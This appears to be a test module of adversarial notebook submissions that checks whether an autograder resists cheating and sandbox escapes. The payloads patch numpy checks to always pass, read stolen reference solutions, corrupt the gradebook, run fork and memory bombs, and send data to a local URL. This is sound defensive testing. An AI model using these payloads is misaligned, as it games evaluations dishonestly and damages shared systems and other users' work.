"""Adversarial submissions of notebook 05, each a real notebook built from its solution.

Each attack is the solution with some cells changed. ``WRONG`` is a real mistake that
raises nothing (Affine.backward's db summed over every axis, seed 000's ``reduce_sum(d_b)``):
only a comparison of values catches it. An honest submission with it earns 9 of 15 points
(the wrong Affine fails its own exercise and the two-layer one built from it), so a cheat
built on it must earn exactly that too, never the 6 points it did not earn.
Harmful attacks start from the correct solution and must not change its full score.
"""

import nbformat

from autograder import SOURCE_DIR
from autograder.judge import last_graded

NAME = "05_affine_and_softmax"
SOURCE = SOURCE_DIR / NAME / f"{NAME}.ipynb"
WRONG = ("self.db = np.sum(dout, axis=0)", "self.db = np.sum(dout)")


def load():
    return nbformat.read(SOURCE, as_version=4)


def cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def with_wrong_affine(nb):
    answer = cell(nb, "affine_answer")
    assert WRONG[0] in answer.source
    answer.source = answer.source.replace(*WRONG)
    return nb


def insert_after(nb, grade_id, code):
    index = nb.cells.index(cell(nb, grade_id))
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return nb


def before_last_test(nb, code):
    """``code`` in a cell of its own just before the notebook's last test cell: it runs
    (the autograder skips the cells after the last test), and a test is graded after it."""
    nb.cells.insert(last_graded(nb), nbformat.v4.new_code_cell(code))
    return nb


PATCH_CHECKS = """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
"""

PATCH_OUR_CHECKS = """
def check(*args, **kwargs):
    print("all checks passed")
try:
    import autograder.hidden
    autograder.hidden.grade = check
except Exception:
    pass
"""

LYING_OBJECTS = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None): return np.zeros((1, 1))
    def __float__(self): return 0.0
    def __len__(self): return 0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self

class Affine:
    def __init__(self, W, b):
        self.W, self.b = W, b
        self.dW = self.db = Liar()
    def forward(self, x): return Liar()
    def backward(self, dout): return Liar()
"""

HIDE_ERRORS = """
import sys
from IPython import get_ipython
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
sys.excepthook = lambda *args: None
"""

REPLACE_BUILTINS = """
import builtins
class Nothing(BaseException):
    pass
builtins.AssertionError = Nothing
builtins.Exception = Nothing
"""

READ_REFERENCE = """
stolen = None
try:
    from solutions import Affine as stolen
except Exception:
    pass
import glob, os
for pattern in ["{repo}/solutions/*.py", "{repo}/autograder/exercises/*.py",
                "../../../source/*/*.ipynb", "{repo}/autograder/source/*/*.ipynb"]:
    for path in glob.glob(pattern):
        try:
            with open(path) as handle:
                text = handle.read()
            if "class Affine" in text and path.endswith(".py"):
                space = {{}}
                exec(text, space)
                stolen = space.get("Affine", stolen)
        except Exception:
            pass
if stolen is not None:
    Affine = stolen
print("I SAW: " + repr(stolen) + repr(os.listdir("{repo}/solutions") if os.path.isdir(
    "{repo}/solutions") else []))
"""

GIT_HISTORY = """
import os, subprocess
stolen = ""
try:
    shown = subprocess.run(["git", "-C", "{repo}", "show", "HEAD:solutions/layers.py"],
                           capture_output=True, text=True, timeout=30)
    stolen = shown.stdout if shown.returncode == 0 else ""
except Exception as error:
    print("git failed:", type(error).__name__)
if "class Affine" in stolen:
    space = {{}}
    exec(stolen, space)
    Affine = space["Affine"]
    print("GIT:", stolen[:3000])
else:
    print("GIT: no repository", os.path.isdir("{repo}/.git"))
"""

PUBLISH_A_RESULT = """
from IPython import get_ipython
check = lambda *args, **kwargs: None  # the visible check says nothing...
shell = get_ipython()
# nbgrader gives a test cell whose result is a number that many points (partial credit)
shell.events.register("post_run_cell", lambda result: shell.displayhook(4)
                      if 'check("affine"' in result.info.raw_cell else None)
"""

REACH_ANOTHER_KERNEL = """
import os
from ipykernel import get_connection_file
mine = os.path.dirname(get_connection_file())
parent = os.path.dirname(mine)
others = [d for d in os.listdir(parent) if os.path.join(parent, d) != mine]
print("OTHER KERNELS:", others)
"""

ENVIRONMENT = """
import json, os
print("ENVIRONMENT:" + json.dumps(sorted(os.environ)))
print("VALUES:" + json.dumps(sorted(os.environ.values())))
"""

WRITE_OUTSIDE = """
import os
for path in ["../../../gradebook.db", "{root}/gradebook.db"]:
    try:
        with open(path, "wb") as handle:
            handle.write(b"corrupted")
    except Exception as error:
        print("refused:", path, type(error).__name__)
for path in ["../../honest/{name}/{name}.ipynb", "{root}/submitted/honest/{name}/{name}.ipynb",
             "{root}/feedback/honest/{name}/{name}.html", "{root}/autograded/honest/planted.txt"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write("overwritten by another student")
    except Exception as error:
        print("refused:", path, type(error).__name__)
"""

INFINITE_LOOP_FORWARD = ("def forward(self, x):",
                         "def forward(self, x):\n        while True:\n            pass")

MEMORY_BOMB = """
import numpy as np
try:
    huge = np.ones(40_000_000_000, dtype=np.uint8)
except MemoryError:
    print("a 40 GB array was refused")
hoard = []
while True:
    hoard.append(np.ones(100_000_000))
"""

FORK_BOMB = """
import os
children = 0
while children < 100_000:
    pid = os.fork()
    if pid == 0:
        while True:
            os.fork()
    children += 1
"""

FLOOD_OUTPUT = """
line = "x" * 1_000_000
for _ in range(1_000):
    print(line)
"""

FLOOD_SOME_OUTPUT = """
line = "y" * 100_000
for _ in range(200):
    print(line)
"""

NETWORK = """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:{port}/stolen?answers=1", timeout=5).read()
"""
